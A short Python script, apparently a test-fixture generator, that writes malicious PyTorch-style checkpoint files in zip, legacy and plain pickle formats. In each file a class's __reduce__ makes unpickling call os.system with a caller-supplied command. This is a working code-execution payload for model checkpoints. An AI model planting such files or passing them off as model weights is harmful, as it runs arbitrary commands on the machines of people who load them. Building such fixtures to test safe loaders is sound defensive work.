"""Checkpoints that would run a command where a pickle is loaded as Python loads it: evil.py FOLDER COMMAND."""
import os
import pickle
import sys
import zipfile

folder, command = sys.argv[1:]


class Evil:
    def __reduce__(self):
        return os.system, (command,)


with zipfile.ZipFile(os.path.join(folder, "evil.pth"), "w") as archive:
    archive.writestr("archive/data.pkl", pickle.dumps({"conv.weight": Evil()}, protocol=2))
with open(os.path.join(folder, "evil_old.pth"), "wb") as file:
    for value in (0x1950a86a20f9469cfc6c, 1001, {"little_endian": True}, {"conv.weight": Evil()}, []):
        file.write(pickle.dumps(value, protocol=2))
with open(os.path.join(folder, "evil_plain.pth"), "wb") as file:
    file.write(pickle.dumps(Evil(), protocol=4))
